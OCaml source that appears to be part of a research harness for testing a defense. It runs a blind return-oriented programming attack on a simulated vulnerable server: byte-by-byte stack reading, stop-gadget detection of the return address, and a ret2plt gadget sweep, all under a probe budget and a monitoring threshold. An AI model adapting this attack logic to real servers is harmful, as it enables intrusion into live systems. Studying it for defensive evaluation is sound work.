open R2c_machine

let output_lines t =
  String.fold_left (fun acc c -> if c = '\n' then acc + 1 else acc) 0 (Process.output (Oracle.proc t))

type probe_result = Survived | Crashed_probe | Gone

(* One probe: respawn, reach the serving state, deliver the payload, run to
   the end; report survival. The response lines the attacker saw stay in
   the process output. *)
let probe t payload =
  if Oracle.dead t then Oracle.restart t;
  match Oracle.to_break t with
  | `Done _ -> Gone
  | `Break -> (
      Oracle.send t payload;
      match Oracle.resume_to_end t with
      | Process.Exited _ -> Survived
      | Process.Crashed _ | Process.Timeout -> Crashed_probe)

let run ?(probe_budget = 20_000) ?(monitor_threshold = 1) ~target:t () =
  let tl = Report.tally t in
  let monitor_tripped () = Oracle.detections t >= monitor_threshold in
  let abort why =
    Report.note tl "%s" why;
    Report.of_tally tl
  in
  let budget_left () = tl.tries < probe_budget && not (monitor_tripped ()) in
  let try_probe payload =
    Report.attempt tl;
    probe t payload
  in
  (* Bitau et al.'s stack reading: extend the overflow one byte at a time,
     keeping only bytes the server survives. The true values are not needed
     — any survivable filler reaches deeper into the frame. *)
  let filler = Buffer.create 128 in
  let result = ref None in
  let stop r = result := Some r in
  let learn_byte () =
    let rec guess g =
      if g > 255 then None
      else if not (budget_left ()) then None
      else
        match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
        | Survived -> Some (Char.chr g)
        | Crashed_probe -> guess (g + 1)
        | Gone -> None
    in
    (* Likely bytes first: zero padding, then the canonical stack/heap/text
       high bytes, then everything. *)
    let ordered = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] in
    let rec preferred = function
      | [] -> guess 0
      | g :: tl -> (
          if not (budget_left ()) then None
          else
            match try_probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
            | Survived -> Some (Char.chr g)
            | Crashed_probe -> preferred tl
            | Gone -> None)
    in
    preferred ordered
  in
  (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
     produces one extra response line iff the word is the return address. *)
  let stop_plt = Payload.plt_addr_of "print_int" in
  let ra_here () =
    let base = Buffer.contents filler in
    match try_probe (base ^ Payload.le64 stop_plt) with
    | Survived | Gone -> false
    | Crashed_probe -> (
        let with_stop = output_lines t in
        match try_probe (base ^ Payload.fill 8) with
        | Survived | Gone -> false
        | Crashed_probe -> with_stop > output_lines t)
  in
  let ra_found = ref false in
  while !result = None && not !ra_found do
    if Buffer.length filler >= 512 then stop (abort "return address not located within 512 bytes")
    else if not (budget_left ()) then
      stop
        (abort
           (if monitor_tripped () then "monitoring response during stack reading"
            else "probe budget exhausted during stack reading"))
    else if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
    else
      match learn_byte () with
      | Some c -> Buffer.add_char filler c
      | None ->
          stop
            (abort
               (if monitor_tripped () then "monitoring response during stack reading"
                else "stack reading failed"))
  done;
  match !result with
  | Some r -> r
  | None ->
  Report.note tl "return address at buffer+%d (stack reading)" (Buffer.length filler);
  (* Gadget sweep: ret2plt chain with brute-forced first gadget. The PLT of
     a non-PIE binary is architectural knowledge. *)
  let sensitive = Payload.plt_addr_of "sensitive" in
  let start = Addr.text_base + (16 * List.length Image.builtin_names) in
  let base = Buffer.contents filler in
  let rec sweep addr =
    if not (budget_left ()) then
      abort
        (if monitor_tripped () then "monitoring response during gadget sweep"
         else "probe budget exhausted")
    else begin
      let chain =
        Payload.le64 addr ^ Payload.le64 R2c_workloads.Vulnapp.marker ^ Payload.le64 sensitive
      in
      match try_probe (base ^ chain) with
      | Gone -> abort "worker gone"
      | Survived | Crashed_probe ->
          if Oracle.compromised t then Report.of_tally tl
          else sweep (addr + 1)
    end
  in
  sweep start
